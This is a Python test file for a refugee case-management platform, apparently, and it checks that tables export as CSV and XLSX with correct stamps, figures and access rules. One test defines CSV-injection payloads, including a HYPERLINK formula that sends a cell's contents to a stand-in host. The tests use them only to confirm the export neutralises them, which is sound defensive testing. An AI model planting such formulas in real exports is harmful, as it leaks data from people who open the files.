"""Every table the pages show downloads as CSV and XLSX holding the page's figures, stamped with
the moment and the event position it reflects (the as-of moment when an auditor or the ministry
views the past), under the page's own access rules."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from decimal import Decimal
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from domain.programme import PROGRAMME_TIMEZONE, Role
from infra.bootstrap import Platform
from tests.web.conftest import Clients, record_intake
from tests.web.test_access_matrix import (
    A_CLAIM,
    AN_ALLOCATION,
    a_pending_claim,
    a_referral,
    a_shelter,
    an_activity_with_a_session,
    offered_a_bed,
    on_the_waitlist,
)
from tests.web.test_as_of_pages import rome_time, two_intakes_minutes_apart, view_as_of
from web.areas.audit.pages import event_browser as audit_events
from web.kit.exports import Column, Table, to_csv, to_xlsx


def csv_export(client: TestClient, path: str, **params: str) -> tuple[dict[str, Any],
                                                                       list[list[str]]]:
    """The stamps (with the filters as a list) and the table (header first) of a CSV export."""
    response = client.get(path, params={"lang": "en", **params})
    assert response.status_code == 200, response.text[:500]
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM
    assert b"\r\n" in response.content
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    blank = lines.index([])
    stamps: dict[str, Any] = {"Filter": []}
    for line in lines[:blank]:
        if line[0] == "Filter":
            stamps["Filter"].append((line[1], line[2]))
        else:
            stamps[line[0]] = line[1]
    stamps["disposition"] = response.headers["content-disposition"]
    return stamps, lines[blank + 1:]


def xlsx_export(client: TestClient, path: str, **params: str) -> Any:
    response = client.get(path, params={"lang": "en", **params})
    assert response.status_code == 200, response.text[:500]
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    return load_workbook(io.BytesIO(response.content))


def about(workbook: Any) -> dict[str, Any]:
    return {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True)}


def page_cells(html: str, marker: str) -> list[list[str]]:
    """The text of each body row's cells of the page's table whose opening tag holds `marker`
    (its class or id)."""
    table = re.search(rf'<table [^>]*{marker}[^>]*>.*?</table>', html, re.S)
    assert table, marker
    rows = re.findall(r"<tr[^>]*>(.*?)</tr>", table.group(0), re.S)[1:]
    return [[re.sub(r"<[^>]+>|\s+", " ", cell).strip()
             for cell in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)] for row in rows]


def test_the_referral_board_downloads_as_the_page_shows_it(
    clients: Clients, platform: Platform
) -> None:
    case = record_intake(clients, "milano")
    a_referral(clients, case["case_id"])
    coordinator = clients.coordinator("milano")
    page = coordinator.get("/cities/milano/referrals", params={"lang": "en"}).text

    stamps, table = csv_export(coordinator, "/cities/milano/referrals/export.csv")
    filtered, none = csv_export(coordinator, "/cities/milano/referrals/export.csv",
                                urgency="immediate")
    workbook = xlsx_export(coordinator, "/cities/milano/referrals/export.xlsx")

    assert "/cities/milano/referrals/export.xlsx" in page
    assert table[0][:4] == ["Part of the board", "Case code", "Referring city", "Referred to"]
    assert [row[1] for row in table[1:]] == [case["case_code"]]
    assert table[1][3] == "Health services" and table[1][3] in page
    # Why the referral has its place (issue 12, item 9): the priority and each factor's points.
    assert table[0][8:12] == ["Priority", "International protection", "Vulnerability",
                              "Waiting time"]
    total, *factors = (int(cell) for cell in table[1][8:12])
    assert total == sum(factors) and total in (2000, 3000)
    assert stamps["Table"] == "Referrals – Milan"
    assert stamps["Event position"] == str(platform.projected_position())
    assert datetime.fromisoformat(stamps["As of"]) == platform.clock()
    day = platform.clock().astimezone(PROGRAMME_TIMEZONE).date().isoformat()
    assert stamps["disposition"] == f'attachment; filename="referrals-milano-{day}.csv"'
    assert filtered["Filter"] == [("Urgency", "Immediate")]
    assert none == [table[0]]  # the header only: no immediate referral
    sheet = workbook.worksheets[0]
    assert [cell.value for cell in sheet[1]][:2] == ["Part of the board", "Case code"]
    assert sheet["B2"].value == case["case_code"] and sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:M2"
    assert isinstance(sheet["F2"].value, datetime)  # a real date and time, not text
    assert about(workbook)["Event position"] == platform.projected_position()


def test_money_downloads_as_numbers_with_two_decimals(
    clients: Clients, platform: Platform
) -> None:
    a_pending_claim(clients, "")
    coordinator = clients.coordinator("milano")
    page = coordinator.get("/cities/milano/finance", params={"lang": "en"}).text

    _, lines = csv_export(coordinator, "/cities/milano/finance/lines/export.csv")
    _, claims = csv_export(coordinator, "/cities/milano/finance/claims/export.csv")
    workbook = xlsx_export(coordinator, "/cities/milano/finance/lines/export.xlsx")
    pending = xlsx_export(clients.ministry(), "/ministry/finance/pending/export.xlsx")

    shown = page_cells(page, "finance-lines")
    assert shown[0][1:] == ["€ 1,000,000.00", "€ 10.00", "€ 0.00", "€ 999,990.00"]
    assert lines[1][1:] == ["1000000.00", "10.00", "0.00", "999990.00"]
    assert lines[-1][0] == "City total"
    assert claims[1][4] == A_CLAIM["amount"] and claims[1][0] == A_CLAIM["spent_on"]
    sheet = workbook.worksheets[0]
    assert sheet["B2"].value == Decimal(AN_ALLOCATION["amount"])
    assert sheet["B2"].number_format == "#,##0.00"
    pending_sheet = pending.worksheets[0]
    assert pending_sheet["F2"].value == Decimal(A_CLAIM["amount"])
    assert pending_sheet["D2"].value.date().isoformat() == A_CLAIM["spent_on"]


def test_housing_and_activity_tables_download_with_the_page_s_rows(
    clients: Clients, platform: Platform
) -> None:
    case = record_intake(clients, "milano")
    shelter_id = a_shelter(clients, case["case_id"])
    on_the_waitlist(clients, case["case_id"])
    activity_id = an_activity_with_a_session(clients, case["case_id"])
    coordinator = clients.coordinator("milano")
    housing_page = coordinator.get("/cities/milano/housing", params={"lang": "en"}).text
    register = coordinator.get("/cities/milano/activities", params={"lang": "en"}).text
    civic = re.search(r'<option value="2"[^>]*>Sub-Action 2 – ([^<]+)</option>', register)
    assert civic

    _, shelters = csv_export(coordinator, "/cities/milano/housing/shelters/export.csv")
    _, waitlist = csv_export(coordinator, "/cities/milano/housing/waitlist/export.csv")
    _, beds = csv_export(coordinator, f"/shelters/{shelter_id}/beds/export.csv")
    _, sessions = csv_export(coordinator, f"/activities/{activity_id}/sessions/export.csv")
    _, activities = csv_export(coordinator, "/cities/milano/activities/activities/export.csv",
                               sub_action="3")
    other_sub_action, none = csv_export(
        coordinator, "/cities/milano/activities/activities/export.csv", sub_action="2")

    assert page_cells(housing_page, 'id="shelters"') == [[*shelters[1][:6], "–"]]
    assert shelters[1][6:] == ["", "", ""]  # no move-in yet (median, p90), not closed
    assert [row[1] for row in waitlist[1:]] == [case["case_code"]]
    assert page_cells(housing_page, 'id="waitlist"')[0][:2] == waitlist[1][:2]
    assert waitlist[1][2] == ""  # not vulnerable (the page shows a dash)
    assert [row[:3] for row in beds[1:]] == [["1", "", "Free bed"], ["2", "", "Free bed"],
                                            ["3", "", "Free bed"]]
    assert sessions[1][:2] == ["1", "2021-03-15"] and Decimal(sessions[1][2]) == Decimal("1.5")
    assert [row[0] for row in activities[1:]] == ["Access matrix"]
    assert other_sub_action["Filter"] == [("Sub-action", f"Sub-Action 2 – {civic.group(1)}")]
    assert none == [activities[0]]


def test_an_export_as_of_a_past_moment_carries_that_moment_and_the_older_figures(
    clients: Clients, platform: Platform
) -> None:
    first, second, between = two_intakes_minutes_apart(clients, platform)
    ministry = clients.ministry()
    now_stamps, now_table = csv_export(ministry, "/ministry/export.csv")
    view_as_of(ministry, rome_time(between))
    page = ministry.get("/ministry", params={"lang": "en"}).text

    past_stamps, past_table = csv_export(ministry, "/ministry/export.csv")
    workbook = xlsx_export(ministry, "/ministry/export.xlsx")

    moment = between.replace(microsecond=0)
    assert datetime.fromisoformat(past_stamps["As of"]) == moment
    assert about(workbook)["As of"] == moment.astimezone(PROGRAMME_TIMEZONE).isoformat()
    assert int(past_stamps["Event position"]) < int(now_stamps["Event position"])
    day = moment.astimezone(PROGRAMME_TIMEZONE).date().isoformat()
    assert past_stamps["disposition"].endswith(f'network-overview-{day}.csv"')
    milan_now = next(row for row in now_table if row[0] == "Milan")
    milan_then = next(row for row in past_table if row[0] == "Milan")
    # City, cases, people (each once), vulnerable cases, ...
    assert milan_now[1:4] == ["2", "2", "1"] and milan_then[1:4] == ["1", "1", "0"]
    assert now_table[0][:4] == ["City", "Cases", "People", "Vulnerable cases"]
    assert past_table[-1][:2] == ["Network total", "1"]
    assert re.search(r'id="total-cases">\s*1\s*<', page)
    assert first["case_code"] != second["case_code"]


def test_the_event_browser_exports_the_filtered_events_and_says_when_it_stops(
    clients: Clients, platform: Platform, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = record_intake(clients, "milano")
    # Someone else: the same person again would add a possible match's event (duplicates).
    record_intake(clients, "milano", given_name="Sara", document_number="PS7654321")
    record_intake(clients, "firenze")
    auditor = clients.auditor()

    stamps, table = csv_export(auditor, "/audit/events/export.csv", city="milano",
                               order="oldest")
    monkeypatch.setattr(audit_events, "MAX_EXPORT_ROWS", 1)
    capped, one = csv_export(auditor, "/audit/events/export.csv", city="milano")

    assert [row[7] for row in table[1:]] == [first["case_code"], table[2][7]]
    assert all(row[2] == "Intake recorded" for row in table[1:])
    assert int(table[1][0]) < int(table[2][0])  # oldest first, as asked
    assert ("City", "Milan") in stamps["Filter"] and ("Order of the events", "Oldest first") in (
        stamps["Filter"])
    assert capped["Table"] == "Event browser (the first 1 of 2 events)"
    assert len(one) == 2


def test_unknown_formats_and_tables_are_not_found_and_foreign_staff_are_refused(
    clients: Clients, platform: Platform
) -> None:
    record_intake(clients, "milano")
    milan, florence = clients.coordinator("milano"), clients.coordinator("firenze")

    pdf = milan.get("/cities/milano/referrals/export.pdf", params={"lang": "en"})
    unknown_table = milan.get("/cities/milano/housing/cases/export.csv")
    foreign = florence.get("/cities/milano/housing/waitlist/export.xlsx")
    foreign_board = florence.get("/cities/milano/referrals/export.csv")
    network = milan.get("/ministry/export.csv")

    assert pdf.status_code == 404 and "tables download as CSV, CSV-IT, XLSX" in pdf.text
    assert unknown_table.status_code == 404
    assert foreign.status_code == foreign_board.status_code == network.status_code == 403
    assert "attachment" not in foreign.headers.get("content-disposition", "")


def test_the_case_list_downloads_every_case_its_filters_select_not_only_the_page(
    clients: Clients,
) -> None:
    for _ in range(3):
        record_intake(clients, "milano", protection_status="asylum_seeker")
    record_intake(clients, "milano", protection_status="refugee")
    coordinator = clients.coordinator("milano")
    page = coordinator.get("/cities/milano/cases",
                           params={"lang": "en", "protection_status": "asylum_seeker",
                                   "page_size": 2}).text
    shown = [row[0] for row in page_cells(page, "table-hover")]
    assert len(shown) == 2 and "3 cases" in page

    stamps, table = csv_export(coordinator, "/cities/milano/cases/export.csv",
                               protection_status="asylum_seeker", page_size="2")
    assert stamps["Filter"] == [  # as the form says
        ("Protection status", "Applicant for international protection (first instance)")]
    assert table[0][:3] == ["Case code", "Intake date", "Protection status"]
    codes = [row[0] for row in table[1:]]
    assert len(codes) == 3 and set(shown) <= set(codes)
    assert {row[2] for row in table[1:]} == {
        "Applicant for international protection (first instance)"}

    sheet = xlsx_export(coordinator, "/cities/milano/cases/export.xlsx").worksheets[0]
    assert sheet.max_row == 1 + 4  # the header and every Milan case
    assert clients.coordinator("firenze").get("/cities/milano/cases/export.csv").status_code \
        in (403, 404)
    assert coordinator.get("/cities/milano/cases/export.csv",
                           params={"intake_month": "2021-13"}).status_code == 422


def test_the_identifier_access_log_and_the_grants_download_for_those_who_check_them(
    clients: Clients,
) -> None:
    case = record_intake(clients, "milano")
    coordinator = clients.coordinator("milano")
    for _ in range(2):
        answer = coordinator.post(f"/api/v1/cases/{case['case_id']}/identifiers",
                                  json={"reason": "contact_person"})
        assert answer.status_code == 200, answer.text
    ministry = clients.ministry()
    clients.add_user("other.auditor", Role.AUDITOR)
    given = ministry.post("/audit/grants", data={"grantee": "other.auditor", "city": "milano",
                                                 "hours": "2", "reason": "Sample check"},
                          follow_redirects=False)
    assert given.status_code == 303, given.text[:500]

    _, readings = csv_export(ministry, "/audit/identifier-access/readings/export.csv")
    assert readings[0] == ["When", "Who", "Role", "City", "Case", "Why"]
    assert [row[1:3] + row[4:5] for row in readings[1:]] == [
        ["milano.coordinator", "City coordinator", case["case_code"]]] * 2
    sheet = xlsx_export(clients.auditor(), "/audit/identifier-access/grants/export.xlsx")
    rows = list(sheet.worksheets[0].iter_rows(values_only=True))
    assert rows[1][:4] == ("other.auditor", "Milan", "Sample check", "ministry")
    assert rows[1][6] == "Live"
    assert coordinator.get("/audit/identifier-access/grants/export.csv").status_code == 403
    assert ministry.get("/audit/identifier-access/other/export.csv").status_code == 404


# Text people typed, as a spreadsheet would run it if it were written as it is (CSV injection).
FORMULAS = ('=HYPERLINK("http://example.org/?leak="&A1,"Open")', "+1+1", "@SUM(A1)", "-2+3",
            "\tcmd", "\r=1+1")


def test_typed_text_beginning_like_a_formula_downloads_as_inert_text(
    clients: Clients, platform: Platform
) -> None:
    claim_id = a_pending_claim(clients, "")
    ministry = clients.ministry()
    # A rejection reason holding a control character (pasted from a word processor), which an
    # XLSX file cannot hold: it is left out, not a failed download.
    rejected = ministry.post(f"/api/v1/finance/claims/{claim_id}/rejection",
                             json={"reason": f"{FORMULAS[0]}\x0b."})
    assert rejected.status_code == 200, rejected.text
    coordinator = clients.coordinator("milano")

    _, claims = csv_export(coordinator, "/cities/milano/finance/claims/export.csv")
    sheet = xlsx_export(coordinator, "/cities/milano/finance/claims/export.xlsx").worksheets[0]

    assert claims[1][6] == f"'{FORMULAS[0]}\x0b."  # the CSV keeps the text, after a quote
    reason = sheet["G2"]
    assert reason.value == f"{FORMULAS[0]}." and reason.data_type == "s"
    assert reason.quotePrefix
    assert sheet["E2"].value == Decimal(A_CLAIM["amount"]) and sheet["E2"].data_type == "n"


def test_every_text_cell_and_stamp_is_inert_and_numbers_stay_numbers() -> None:
    table = Table(
        name="t", title=FORMULAS[2],
        columns=[Column("Note"), Column("Amount", "money"), Column("Count", "int")],
        rows=[[text, Decimal("-12.5"), -3] for text in FORMULAS] + [["#N/A", None, 0]],
        as_of=datetime(2021, 3, 15, 12, tzinfo=PROGRAMME_TIMEZONE), position=7,
        filters=[("Actor", FORMULAS[1])],
    )

    lines = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"), newline="")))
    workbook = load_workbook(io.BytesIO(to_xlsx(table)))
    rows = list(workbook.worksheets[0].iter_rows(min_row=2))

    assert lines[0] == ["Table", f"'{FORMULAS[2]}"]
    assert lines[3] == ["Filter", "Actor", f"'{FORMULAS[1]}"]
    # A formula after a line break (or any separator) is neutralised too (issue 18 item 5).
    assert [line[0] for line in lines[6:-1]] == [
        f"'{text}".replace("\r=", "\r'=") for text in FORMULAS]
    assert {tuple(line[1:]) for line in lines[6:-1]} == {("-12.50", "-3")}
    assert lines[-1] == ["#N/A", "", "0"]
    # (XML reads a carriage return as a line feed.)
    assert [row[0].value for row in rows] == [t.replace("\r", "\n") for t in FORMULAS] + ["#N/A"]
    assert {row[0].data_type for row in rows} == {"s"}  # no formula, no error value
    assert all(row[0].quotePrefix for row in rows[:-1]) and not rows[-1][0].quotePrefix
    assert {(row[1].value, row[2].value) for row in rows[:-1]} == {(Decimal("-12.5"), -3)}
    assert {row[1].data_type for row in rows[:-1]} == {"n"}
    assert about(workbook)["Table"] == FORMULAS[2]
    assert workbook["About"]["B1"].data_type == "s"


def test_a_case_s_beds_offered_download_as_its_housing_page_lists_them(
    clients: Clients,
) -> None:
    case = record_intake(clients, "milano")
    offered_a_bed(clients, case["case_id"])
    coordinator = clients.coordinator("milano")
    page = coordinator.get(f"/cases/{case['case_id']}/housing", params={"lang": "en"}).text

    stamps, table = csv_export(coordinator, f"/cases/{case['case_id']}/housing/export.csv")
    assert stamps["Table"] == f"Beds offered – {case['case_code']}"
    assert table[0] == ["Shelter", "Bed", "Status", "Offered on", "Moved in", "Moved out",
                        "Outcome"]
    assert [row[:3] for row in table[1:]] == [row[:3] for row in page_cells(page,
                                                                            'id="placements"')]
    assert clients.coordinator("firenze").get(
        f"/cases/{case['case_id']}/housing/export.csv").status_code == 404
